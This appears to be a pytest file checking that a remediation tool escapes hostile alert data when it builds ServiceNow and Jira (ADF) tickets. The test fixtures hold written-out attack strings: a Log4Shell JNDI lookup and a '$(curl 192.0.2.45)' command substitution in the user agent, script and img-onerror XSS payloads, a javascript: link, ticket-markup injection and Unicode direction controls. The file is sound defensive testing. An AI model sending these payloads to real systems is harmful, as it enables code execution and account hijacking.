"""Ticket text for a hostile finding: ServiceNow plain text and Atlassian Document Format."""

from __future__ import annotations

import json
from typing import Any

from clampdown.actions.contract import Briefing
from clampdown.messages import adf, servicenow
from clampdown.messages.model import Message, compose
from clampdown.sources import normalize
from tests.conftest import FIXTURES

USER_AGENT = "${jndi:ldap://192.0.2.45:1389/a} {{7*7}} <script>alert(1)</script> $(curl 192.0.2.45)"
LINKS = {"undo": "https://clampdown.example/undo?t=a&s=b", "approve": "javascript:alert(1)"}


def _finding(**changes: Any) -> dict[str, Any]:
    payload = json.loads((FIXTURES / "securityalert-row-useragent.json").read_text())
    [finding] = normalize(payload, "securityalert")
    return {**finding.expression_view(), **changes}


def _message(text: str = "x", **changes: Any) -> Message:
    briefing = Briefing(
        remediation_id="rem-1",
        playbook="block-ua",
        state="running",
        finding=_finding(**changes),
        done=("block: blocked 192.0.2.45 at edge",),
        links=LINKS,
    )
    return compose("t", text, briefing)


EXPECTED_DESCRIPTION = f"""\
Clampdown remediation rem-1 (block-ua), running

x

Alert: Suspicious user agent detected calling an API endpoint
Type: API_AccessFromSuspiciousUserAgent
Severity: medium
Source: defender
Client IP: 192.0.2.45
API: search-api
Endpoint: GET /search
User agent: {USER_AGENT}

Done:
- block: blocked 192.0.2.45 at edge

Undo: https://clampdown.example/undo?t=a&s=b"""


def test_servicenow_description_of_the_hostile_fixture() -> None:
    """Plain text fields are shown escaped by ServiceNow: the user agent stays as sent."""
    message = _message()
    assert servicenow.description(message) == EXPECTED_DESCRIPTION
    assert servicenow.short_description(message) == "t"
    assert servicenow.made_for(EXPECTED_DESCRIPTION, "rem-1")
    assert not servicenow.made_for(EXPECTED_DESCRIPTION, "rem-10")


def test_servicenow_code_tags_and_controls_are_made_inert() -> None:
    hostile = (
        "[code]<img src=x onerror=alert(1)>[/code] [ CoDe ]x[/ code] [[code]code]\x1b[31m\u202e"
    )
    message = _message(text=f"line one\r\n{hostile}", user_agent=hostile)
    inert = (
        "\uff3bcode\uff3d<img src=x onerror=alert(1)>\uff3b/code\uff3d "
        "\uff3b CoDe \uff3dx\uff3b/ code\uff3d [\uff3bcode\uff3dcode][31m"
    )
    description = servicenow.description(message)
    assert f"\n\nline one\n{inert}\n\n" in description
    assert f"\nUser agent: {inert}\n" in description
    assert "[code]" not in description.lower()
    assert servicenow.note(hostile) == inert
    briefing = Briefing(remediation_id="r", playbook="p", state="s", finding={})
    titled = compose("[code]a\nb[/code]" + "c" * 200, "", briefing)
    short = servicenow.short_description(titled)
    assert short.startswith("\uff3bcode\uff3da b\uff3b/code\uff3dccc")
    assert len(short) == servicenow.SHORT_LIMIT


def test_servicenow_cuts_to_the_field_lengths() -> None:
    message = _message(text="y" * 5000)
    description = servicenow.description(message)
    assert len(description) == servicenow.TEXT_LIMIT
    assert description.endswith("\n[cut to fit]")
    assert description.startswith("Clampdown remediation rem-1 (block-ua), running\n")


def _text(value: str) -> dict[str, Any]:
    return {"type": "text", "text": value}


def _fact(label: str, value: str) -> dict[str, Any]:
    strong = {"type": "text", "text": f"{label}: ", "marks": [{"type": "strong"}]}
    return {
        "type": "listItem",
        "content": [{"type": "paragraph", "content": [strong, _text(value)]}],
    }


EXPECTED_ADF = {
    "type": "doc",
    "version": 1,
    "content": [
        {"type": "paragraph", "content": [_text("x")]},
        {"type": "heading", "attrs": {"level": 3}, "content": [_text("Finding")]},
        {
            "type": "bulletList",
            "content": [
                _fact("Alert", "Suspicious user agent detected calling an API endpoint"),
                _fact("Type", "API_AccessFromSuspiciousUserAgent"),
                _fact("Severity", "medium"),
                _fact("Source", "defender"),
                _fact("Client IP", "192.0.2.45"),
                _fact("API", "search-api"),
                _fact("Endpoint", "GET /search"),
                # The attacker's text: one text node, no marks.
                _fact("User agent", USER_AGENT),
            ],
        },
        {"type": "heading", "attrs": {"level": 3}, "content": [_text("Done")]},
        {
            "type": "bulletList",
            "content": [
                {
                    "type": "listItem",
                    "content": [
                        {
                            "type": "paragraph",
                            "content": [_text("block: blocked 192.0.2.45 at edge")],
                        }
                    ],
                }
            ],
        },
        {"type": "heading", "attrs": {"level": 3}, "content": [_text("Links")]},
        {
            "type": "bulletList",
            "content": [
                {
                    "type": "listItem",
                    "content": [
                        {
                            "type": "paragraph",
                            "content": [
                                {
                                    "type": "text",
                                    "text": "Undo",
                                    "marks": [
                                        {
                                            "type": "link",
                                            "attrs": {
                                                "href": "https://clampdown.example/undo?t=a&s=b"
                                            },
                                        }
                                    ],
                                }
                            ],
                        }
                    ],
                }
            ],
        },
        {
            "type": "paragraph",
            "content": [
                {
                    "type": "text",
                    "text": "Clampdown remediation rem-1 (block-ua), running",
                    "marks": [{"type": "em"}],
                }
            ],
        },
    ],
}


def test_adf_document_of_the_hostile_fixture() -> None:
    """Untrusted text sits in unmarked text nodes; the only link is Clampdown's own."""
    document = adf.document(_message())
    assert document == EXPECTED_ADF
    assert adf.made_for(document, "rem-1")
    assert not adf.made_for(document, "rem-10")
    assert adf.summary(_message()) == "t"


def test_adf_line_breaks_controls_and_lookalike_markup_stay_text() -> None:
    text = "see [why](https://evil.example) @here\r\n\x1bnext\u202e line\n\n\nsecond *para*"
    document = adf.plain(text)
    assert document == {
        "type": "doc",
        "version": 1,
        "content": [
            {
                "type": "paragraph",
                "content": [
                    _text("see [why](https://evil.example) @here"),
                    {"type": "hardBreak"},
                    _text("next line"),
                ],
            },
            {"type": "paragraph", "content": [_text("second *para*")]},
        ],
    }
    assert adf.plain("") == {
        "type": "doc",
        "version": 1,
        "content": [{"type": "paragraph", "content": []}],
    }


def test_adf_summary_is_one_line_and_at_most_255_characters() -> None:
    briefing = Briefing(remediation_id="r", playbook="p", state="s", finding={})
    message = compose("a\nb\r\n" + "c" * 300, "", briefing)
    summary = adf.summary(message)
    assert "\n" not in summary
    assert len(summary) == adf.SUMMARY_LIMIT
    assert summary.startswith("a b ccc")
    assert summary.endswith("…")
